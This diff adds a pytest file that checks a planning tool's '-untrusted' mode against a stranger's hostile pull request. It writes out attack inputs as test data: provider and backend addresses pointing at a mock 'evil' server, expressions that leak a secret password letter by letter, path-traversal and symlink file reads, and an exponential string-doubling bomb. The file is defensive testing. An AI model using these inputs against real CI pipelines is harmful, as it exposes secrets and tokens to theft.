@@ -1,0 +1,157 @@
+"""`plan -untrusted`: a stranger's pull request, as the stranger would write it to get at the token and the secrets."""
+
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, HTTPServer
+
+import pytest
+
+from tests.cli.test_base import Git, git
+from tests.cli.workbench import Bench, Ended
+
+__all__ = ["git"]
+
+SECRET = "canary-of-a-database"
+MAIN = """\
+variable "password" {
+  type      = string
+  sensitive = true
+}
+
+cluster "db" {
+  metadata = { name = "db" }
+  spec = {
+    version                 = "2021.06"
+    commonRuntimeProperties = { "druid.metadata.storage.connector.password" = var.password }
+  }
+}
+"""
+
+
+@pytest.fixture
+def evil() -> Iterator[tuple[str, list[str]]]:
+    """Return the address of a server of the stranger's, and what it was asked."""
+    asked: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(str(self.headers))
+            self.send_error(404)
+
+        do_POST = do_GET  # noqa: N815 - likewise
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    server = HTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_port}", asked
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+@pytest.fixture
+def secretive(bench: Bench, git: Git, monkeypatch: pytest.MonkeyPatch) -> Bench:
+    """Return a repository whose main branch has a secret, which is applied."""
+    monkeypatch.setenv("PLANNER_VAR_password", SECRET)
+    git("checkout", "-q", "main")
+    (bench.path / "main.hcl").write_text(MAIN, encoding="utf-8")
+    git("add", "-A")
+    git("commit", "-q", "-m", "secret")
+    assert bench.run("apply", "-auto-approve").code == 0
+    git("checkout", "-q", "-B", "change")
+    return bench
+
+
+def plan(bench: Bench) -> Ended:
+    ended = bench.run("plan", "-untrusted", "-base", "main", "-ci", "none", "-markdown", "plan.md")
+    told = ended.out + ended.err
+    told += (bench.path / "plan.md").read_text(encoding="utf-8") if (bench.path / "plan.md").exists() else ""
+    assert SECRET not in told
+    assert "-".join(SECRET) not in told, "not letter by letter either"
+    return ended
+
+
+def write(bench: Bench, text: str, name: str = "main.hcl") -> None:
+    (bench.path / name).write_text(text, encoding="utf-8")
+
+
+def test_a_harmless_change_is_planned(secretive: Bench) -> None:
+    write(secretive, MAIN.replace("2021.06", "2021.06.01"))
+    ended = plan(secretive)
+    assert ended.code == 0, ended.err
+    assert "1 change from this pull request" in ended.out
+
+
+def test_another_account_is_not_asked_and_gets_no_token(secretive: Bench, evil: tuple[str, list[str]]) -> None:
+    address, asked = evil
+    write(
+        secretive, f'provider "imply" {{\n  endpoint  = "{address}"\n  token_url = "{address}/token"\n}}\n', "evil.hcl"
+    )
+    ended = plan(secretive)
+    assert ended.code == 0, ended.err
+    assert asked == []
+    assert "The planner and provider blocks are taken from main" in ended.err
+    assert "(endpoint, token url)" in " ".join(ended.err.split())
+
+
+def test_another_backend_and_another_guard_are_not_used(secretive: Bench, evil: tuple[str, list[str]]) -> None:
+    address, asked = evil
+    write(
+        secretive,
+        f'planner {{\n  backend "http" {{\n    address = "{address}/state"\n  }}\n  guard {{\n    max_delete = null\n'
+        "    max_delete_percent = null\n  }\n}\n",
+        "evil.hcl",
+    )
+    for path in secretive.path.glob("*.cluster.json"):
+        path.unlink()
+    write(secretive, MAIN.partition("cluster")[0])
+    ended = plan(secretive)
+    assert ended.code == 5, "the limits of the base hold"
+    assert asked == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        MAIN.replace("  sensitive = true\n", "") + 'output "leak" {\n  value = join("-", split("", var.password))\n}\n',
+        MAIN + 'output "leak" {\n  value = nonsensitive(join("-", split("", var.password)))\n}\n',
+        MAIN.replace("  sensitive = true\n", "") + 'check "leak" {\n  assert {\n    condition     = false\n'
+        '    error_message = join("-", split("", var.password))\n  }\n}\n',
+        MAIN.replace("  sensitive = true\n", "")
+        + 'locals {\n  leak = tonumber(join("-", split("", var.password)))\n}\noutput "x" {\n  value = local.leak\n}\n',
+        MAIN.replace(
+            "  sensitive = true\n",
+            '  validation {\n    condition     = false\n    error_message = join("-", split("", var.password))\n  }\n',
+        ),
+    ],
+)
+def test_a_secret_cannot_be_told(secretive: Bench, text: str) -> None:
+    write(secretive, text)
+    ended = plan(secretive)
+    assert ended.code == 5
+    assert "secret" in ended.err
+    assert ended.out == ""
+
+
+def test_files_outside_cannot_be_read(secretive: Bench) -> None:
+    outside = secretive.path.parent / f"{secretive.path.name}-outside"
+    outside.write_text(SECRET, encoding="utf-8")
+    (secretive.path / "link").symlink_to(outside)
+    for name in (f"../{outside.name}", str(outside), "link"):
+        write(secretive, f'{MAIN}output "leak" {{\n  value = file("{name}")\n}}\n')
+        assert plan(secretive).code == 3
+
+
+def test_what_costs_too_much_is_cut_off(secretive: Bench) -> None:
+    doubling = "".join(f'  a{at} = "${{local.a{at - 1}}}${{local.a{at - 1}}}"\n' for at in range(1, 40))
+    write(secretive, f'{MAIN}locals {{\n  a0 = "xxxxxxxx"\n{doubling}}}\noutput "o" {{\n  value = local.a39\n}}\n')
+    assert plan(secretive).code in {3, 5}
+
+
+def test_what_is_trusted_must_be_said(secretive: Bench) -> None:
+    ended = secretive.run("plan", "-untrusted")
+    assert ended.code == 1
+    assert "-untrusted needs to know what is trusted" in ended.err
